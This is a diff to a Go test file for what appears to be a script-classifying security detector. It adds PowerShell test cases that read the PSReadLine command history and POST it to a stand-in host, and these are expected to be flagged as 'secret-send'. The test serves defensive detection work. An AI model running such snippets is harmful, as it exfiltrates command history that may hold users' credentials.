@@ -623,3 +623,14 @@ func TestDenoBunEnv(t *testing.T) {
 		{"const env = Deno.env.toObject();\nconsole.log(Object.keys(env).length);\nawait fetch('https://x.example/p', { method: 'POST', body: 'ping' });\n", JS, ""},
 	})
 }
+
+// PowerShell's command history (PSReadLine's file) read and sent, the path
+// given by Get-PSReadLineOption or spelled out, through -Path.
+func TestPowerShellHistory(t *testing.T) {
+	checkKinds(t, []kindCase{
+		{"$h = (Get-PSReadLineOption).HistorySavePath\n$l = Get-Content -Path $h -Tail 20\nInvoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body $l\n", PowerShell, "secret-send"},
+		{"$h = Get-PSReadLineOption\n$l = Get-Content -Path $h.HistorySavePath\nInvoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body $l\n", PowerShell, "secret-send"},
+		{"$l = Get-Content -Path \"$env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt\"\nInvoke-RestMethod -Uri 'https://x.example/p' -Method Post -Body $l\n", PowerShell, "secret-send"},
+		{"$h = (Get-PSReadLineOption).HistorySavePath\n$n = (Get-Content -Path $h).Count\nWrite-Output \"$n commands\"\n", PowerShell, ""},
+	})
+}
